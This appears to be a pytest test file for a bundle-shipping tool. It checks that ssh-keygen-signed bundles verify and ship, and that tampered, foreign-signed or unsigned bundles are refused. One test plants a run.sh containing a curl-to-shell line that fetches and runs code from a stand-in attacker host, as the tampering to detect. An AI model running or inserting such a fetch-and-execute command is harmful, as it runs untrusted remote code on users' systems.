"""Signed bundles (real keys made by ssh-keygen): verified and shipped, and refused when tampered
with, signed by another key or not signed."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from tests.support.bundles import replace_file
from tests.support.http import StandIn, json_answer, ollama_answer
from tests.support.ship import no_traceback


def _keygen(*args: str, cwd: Path | None = None) -> None:
    subprocess.run(["ssh-keygen", "-q", *args], cwd=cwd, check=True, capture_output=True, timeout=60)


def _make_key(folder: Path, who: str) -> tuple[Path, str]:
    """A new ed25519 key and its allowed-signers line for the haqa-bundle namespace."""
    key = folder / who
    _keygen("-t", "ed25519", "-N", "", "-C", who, "-f", str(key))
    return key, f'{who} namespaces="haqa-bundle" {Path(f"{key}.pub").read_text().strip()}\n'


@pytest.fixture
def signer(tmp_path) -> tuple[Path, Path]:
    """(private key, allowed-signers file that trusts it)."""
    if not shutil.which("ssh-keygen"):
        pytest.skip("ssh-keygen is not installed")
    keys = tmp_path / "keys"
    keys.mkdir()
    key, line = _make_key(keys, "maker@example.com")
    (keys / "allowed_signers").write_text(line)
    return key, keys / "allowed_signers"


def sign(bundle: Path, key: Path) -> None:
    """What the README tells a bundle's maker to run."""
    _keygen("-Y", "sign", "-f", str(key), "-n", "haqa-bundle", "SHA256SUMS", cwd=bundle)


def test_a_signed_bundle_verifies_and_ships(small_bundle, signer, haqa):
    key, allowed = signer
    sign(small_bundle, key)
    with StandIn(json_answer(ollama_answer)) as ollama:
        code, out, err = haqa("ship", str(small_bundle), "--allowed-signers", str(allowed),
                              "--ollama", "--ollama-host", ollama.url)
    assert code == 0, err
    assert f"which maker@example.com signed (a key in {allowed})" in err and "not listed" not in err, err


def test_a_tampered_run_sh_with_recomputed_sums_fails_the_signature(small_bundle, signer, device, haqa):
    key, allowed = signer
    sign(small_bundle, key)
    replace_file(small_bundle, "run.sh", b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n")
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--allowed-signers", str(allowed))
    assert code == 2, err
    assert "SHA256SUMS.sig does not verify for SHA256SUMS" in err and "refusing the bundle" in err, err
    no_traceback(err)
    assert not device.parent.exists()


def test_a_bundle_signed_by_another_key_or_not_at_all_is_refused(small_bundle, signer, device, haqa, tmp_path):
    _, allowed = signer
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--allowed-signers", str(allowed))
    assert code == 2 and "has no SHA256SUMS.sig" in err and "ssh-keygen -Y sign" in err, err
    other, _ = _make_key(tmp_path / "keys", "someone@else.example")
    sign(small_bundle, other)
    code, out, err = haqa("ship", str(small_bundle), "--target", "loop", "--allowed-signers", str(allowed))
    assert code == 2 and "SHA256SUMS.sig was not made by any key in" in err, err
    no_traceback(err)
    assert not device.parent.exists()
